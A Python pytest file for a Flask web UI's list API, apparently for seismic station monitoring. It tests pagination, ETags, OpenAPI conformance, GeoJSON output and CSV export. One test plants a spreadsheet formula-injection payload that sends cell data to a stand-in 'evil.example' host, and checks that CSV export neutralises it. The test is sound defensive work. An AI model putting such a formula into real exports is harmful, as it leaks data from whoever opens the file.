"""Lists: page by page, as CSV without harm, as GeoJSON."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient

from database.store import Store
from houfeng.sheets import cell
from houfeng.times import NS_PER_S, now_ns
from stations.inventory import Inventory, Site
from tests.webui.conforming import differences
from tests.webui.conftest import located, make_event, make_run, make_status
from webui.openapi import described

LISTS = {
    *("stations", "events", "picks", "runs", "alerts", "gaps", "audit", "availability", "metrics", "tasks"),
}


@pytest.fixture
def long(filled: Store) -> Store:
    """Seven events, one a minute, and four runs more."""
    events = [make_event(now_ns() - n * 60 * NS_PER_S) for n in range(1, 8)]
    with filled.begin() as unit:
        unit.save_picks("run/live", [pick for event in events for pick in event.picks])
        unit.save_events("run/live", [located(event) for event in events])
        for n in range(4):
            unit.save_run(replace(make_run(f"run/more{n}", "replay"), started_ns=n))
    return filled


def walk(client: FlaskClient, address: str) -> list[list[Any]]:
    """All pages."""
    found = []
    link: str | None = address
    while link:
        answer = client.get(link)
        assert answer.status_code == 200, answer.text
        rows, link = next(iter(answer.json.values())), answer.json["next"]  # type: ignore[union-attr]
        assert (f'<{link}>; rel="next"' == answer.headers.get("Link")) is (link is not None)
        found.append(rows)
    return found


@pytest.mark.parametrize("name", ["stations", "events", "picks", "runs"])
def test_pages_together_are_the_list(long: Store, client: FlaskClient, name: str) -> None:
    # as many on pages of three as on one, each once
    (everything,) = walk(client, f"/api/v1/{name}?limit=1000")
    pages = walk(client, f"/api/v1/{name}?limit=3")
    assert len(everything) > 3 and [len(page) for page in pages[:-1]] == [3] * (len(pages) - 1)
    assert [row["id"] for page in pages for row in page] == [row["id"] for row in everything]
    sheets = client.get(f"/api/v1/{name}?limit=3&format=csv")
    assert "page=2" in sheets.headers["Link"] and len(sheets.text.splitlines()) == 4


def test_what_comes_in_between_moves_no_page(long: Store, client: FlaskClient) -> None:
    first = client.get("/api/v1/events?limit=3").get_json()
    newest = make_event(now_ns() + NS_PER_S)
    with long.begin() as unit:
        unit.save_picks("run/live", newest.picks)
        unit.save_events("run/live", [newest])
    second = client.get(first["next"]).get_json()
    assert not {row["id"] for row in first["events"]} & {row["id"] for row in second["events"]}


def test_every_list_has_pages_and_tags(app: Flask, client: FlaskClient) -> None:
    document = described(app)
    lists = {
        path.removeprefix("/api/v1/")
        for path, operations in document["paths"].items()
        if "{" not in path and {"limit"} <= {each["name"] for each in operations.get("get", {}).get("parameters", ())}
    }
    assert lists == LISTS
    for name in lists - {"audit", "tasks"}:
        answer = client.get(f"/api/v1/{name}")
        assert answer.status_code == 200 and "next" in answer.get_json(), name
        again = client.get(f"/api/v1/{name}", headers={"If-None-Match": answer.headers["ETag"]})
        assert again.status_code in (200, 304) and again.headers["ETag"], name
    for wrong in ("page=0", "page=x", "page=2", "page=9999&limit=10000"):
        assert client.get(f"/api/v1/stations?{wrong}").status_code == 400, wrong


def test_no_cell_is_a_formula(filled: Store, client: FlaskClient) -> None:
    evil = '=HYPERLINK("https://evil.example?"&A1)'
    with filled.begin() as unit:
        unit.save_inventory(Inventory({"KR.NRN": Site("KR.NRN", -41.5, 75.97, 2130.0, evil, "KG")}, (), ()))
        unit.save_statuses([make_status("KR.NRN")])
    (row,) = csv.DictReader(io.StringIO(client.get("/api/v1/stations?format=csv&q=KR.NRN").text))
    assert (row["name"], row["latitude_deg"]) == (f"'{evil}", "-41.5")
    for text in ("=1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1"):
        assert cell(text) == f"'{text}"
    assert [cell(value) for value in (-1.5, None, "a=b", "", True)] == [-1.5, None, "a=b", "", True]


def test_places_are_as_the_standard_has_them(long: Store, client: FlaskClient) -> None:
    for name, n_axes in (("stations", 3), ("events", 2)):
        answer = client.get(f"/api/v1/{name}?format=geojson&limit=3")
        assert answer.mimetype == "application/geo+json" and 'rel="next"' in answer.headers["Link"]
        found = answer.get_json()
        assert found["type"] == "FeatureCollection" and len(found["features"]) == 3
        for feature in found["features"]:
            # RFC 7946: longitude first, and the third is a height
            longitude, latitude, *height = feature["geometry"]["coordinates"]
            assert -180 <= longitude <= 180 and -90 <= latitude <= 90 and len(height) == n_axes - 2
            assert feature["type"] == "Feature" and feature["id"] == feature["properties"]["id"]
    assert found["features"][0]["geometry"]["coordinates"] == [75.25, 41.1234]


@pytest.mark.parametrize(
    ("address", "field", "wrong"),
    [
        ("/api/v1/stations/KR.NRN", "score", "many"),
        ("/api/v1/stations/KR.NRN", "since", "yesterday"),
        ("/api/v1/stations/KR.NRN", "total_latency_s", "2.1"),
        ("/api/v1/runs", "next", 1),
        ("/api/v1/nowhere/x", "error", None),
    ],
)
def test_another_type_than_described_is_seen(app: Flask, address: str, field: str, wrong: object) -> None:
    document = described(app)
    with app.test_request_context(address.replace("nowhere", "stations")):
        response = app.full_dispatch_request()
        assert differences(document, response) == []
        response.set_data(app.json.dumps(response.get_json() | {field: wrong}))
        (fault,) = differences(document, response)
        assert fault.startswith(f"{field}:")
        response.set_data(app.json.dumps({"unheard": 1}))
        assert len(differences(document, response)) > 1
